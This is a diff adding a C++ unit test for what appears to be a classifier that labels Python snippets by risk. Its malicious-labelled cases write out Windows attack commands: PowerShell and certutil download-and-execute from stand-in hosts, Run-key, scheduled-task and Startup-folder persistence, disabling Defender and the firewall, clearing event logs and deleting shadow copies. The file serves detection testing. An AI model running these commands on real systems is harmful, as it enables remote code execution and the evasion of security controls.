@@ -36,5 +36,51 @@ TEST(RubricClasses, AuthenticationWithOtherEnvironmentValuesInTheBody) {
   for (const auto& c : cases) check(c);
 }
 
+// Windows command lines driven from Python: cmd and PowerShell are not POSIX
+// shell, but a download cradle, a Run key, a scheduled task, the Startup
+// folder, Defender, the firewall, event logs and shadow copies have fixed
+// spellings. Queries of the same things stay ordinary process runs.
+TEST(RubricClasses, WindowsCommandLines) {
+  const Case cases[] = {
+      {"PowerShell download cradle through os.system (unquoted parentheses)", B,
+       "import os\nos.system(\"powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\")\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"DownloadFile then Start-Process, as an argv list", B,
+       "import subprocess\nsubprocess.run(['powershell.exe', '-c', \"(New-Object Net.WebClient).DownloadFile('http://x.example/u.exe', 'u.exe'); Start-Process u.exe\"])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"certutil download, then the file it wrote is run", B,
+       "import os\nos.system('certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe && a.exe')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"Run key written by reg add (backslashes lost to the POSIX parse)", B,
+       "import os\nos.system(r'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\u.exe /f')\n",
+       "PERSISTENCE"},
+      {"scheduled task at logon", B,
+       "import subprocess\nsubprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'upd', '/tr', 'C:\\\\u.exe'])\n",
+       "PERSISTENCE"},
+      {"copied into the Startup folder through cmd /c", B,
+       "import os\nos.system('cmd /c copy u.exe \"%APPDATA%\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.exe\"')\n",
+       "PERSISTENCE"},
+      {"Defender real-time monitoring off", B,
+       "import subprocess\nsubprocess.run(['powershell', 'Set-MpPreference', '-DisableRealtimeMonitoring', '$true'])\n",
+       "DISABLE-SECURITY"},
+      {"firewall off", B, "import subprocess\nsubprocess.run('netsh advfirewall set allprofiles state off', shell=True)\n",
+       "DISABLE-SECURITY"},
+      {"event log cleared through cmd /c", B, "import subprocess\nsubprocess.run(['cmd', '/c', 'wevtutil', 'cl', 'Security'])\n",
+       "DISABLE-SECURITY"},
+      {"shadow copies deleted (upper case)", B, "import os\nos.system('VSSADMIN.EXE Delete Shadows /All /Quiet')\n",
+       "DISABLE-SECURITY"},
+      {"a Run key queried", M,
+       "import subprocess\nsubprocess.run(['reg', 'query', r'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'])\n",
+       "RUNS-PROCESS"},
+      {"scheduled tasks listed", M, "import subprocess\nsubprocess.run(['schtasks', '/query', '/fo', 'LIST'])\n", "RUNS-PROCESS"},
+      {"a download kept as data", M,
+       "import os\nos.system('powershell -c Invoke-WebRequest https://example.com/data.csv -OutFile data.csv')\n",
+       "RUNS-PROCESS"},
+      {"PowerShell listing processes", M, "import subprocess\nsubprocess.run(['powershell', '-c', 'Get-Process | Sort-Object CPU'])\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
